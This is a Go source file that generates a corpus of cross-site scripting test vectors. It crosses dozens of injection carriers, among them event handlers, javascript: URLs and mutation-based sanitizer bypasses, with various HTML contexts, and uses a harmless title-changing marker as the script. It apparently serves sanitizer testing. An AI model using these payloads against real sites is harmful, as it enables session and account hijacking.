package testsite

import (
	"fmt"
	"strings"
)

// carriers are how markup can bring something to run; X stands for the script.
var carriers = []string{
	`<script>X</script>`, `<script src="data:text/javascript,X"></script>`, `<img src=x onerror=X>`, `<img/src=x/onerror=X>`, `<svg onload=X>`, `<svg><script>X</script></svg>`,
	`<svg><animate onbegin=X attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:X"><text>go</text></a></svg>`, `<math><maction actiontype="statusline#" xlink:href="javascript:X">go</maction></math>`,
	`<a href="javascript:X">go</a>`, `<a href="JaVaScRiPt:X">go</a>`, `<a href="java&#9;script:X">go</a>`, `<a href="&#1;javascript:X">go</a>`, `<a href="vbscript:X">go</a>`,
	`<a href="data:text/html,<script>X</script>">go</a>`, `<iframe src="javascript:X"></iframe>`, `<iframe srcdoc="&lt;script&gt;X&lt;/script&gt;"></iframe>`, `<object data="javascript:X"></object>`,
	`<embed src="javascript:X">`, `<form action="javascript:X"><button>go</button></form>`, `<button formaction="javascript:X">go</button>`, `<input autofocus onfocus=X>`, `<details open ontoggle=X>`,
	`<video><source onerror=X></video>`, `<audio src=x onerror=X>`, `<body onload=X>`, `<meta http-equiv=refresh content="0;url=javascript:X">`, `<base href="javascript:X//">`, `<link rel=stylesheet href="javascript:X">`,
	`<style>@import "javascript:X"</style>`, `<div style="background:url(javascript:X)">go</div>`, `<p onclick=X>go</p>`, `<p id=x tabindex=1 onfocus=X>go</p>`, `<img src="javascript:X">`, `<img srcset="javascript:X 1x">`,
	`<noscript><p title="</noscript><img src=x onerror=X>"></noscript>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=X&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>`, `<svg></p><style><a id="</style><img src=1 onerror=X>">`, `<template><img src=x onerror=X></template>`,
}

// detours are where a carrier may stand.
var detours = []string{
	"%s", "<p>text %s text</p>", "<table><tr><td>%s</table>", "<table>%s</table>", "<select><option>%s</select>", "<ul><li>%s</ul>", "<blockquote>%s", "<pre>%s</pre>",
	"<!-- > -->%s<!-- -->", "<p><b><i>%s</p></b>", "<figure><figcaption>%s</figcaption></figure>", "<textarea>%s</textarea>%[1]s", "<svg><desc>%s</desc></svg>", "<p title='%s'>x</p>%[1]s",
}

// runs is the script of each vector: whoever runs it has another title.
const runs = "document.title='RAN'"

// Vectors are five hundred and more ways in which markup may bring a script to run:
// each carrier at every detour. A document in which one runs has the title RAN.
func Vectors() (list []string) {
	for _, c := range carriers {
		for _, d := range detours {
			list = append(list, fmt.Sprintf(d, strings.ReplaceAll(c, "X", runs)))
		}
	}
	return list
}
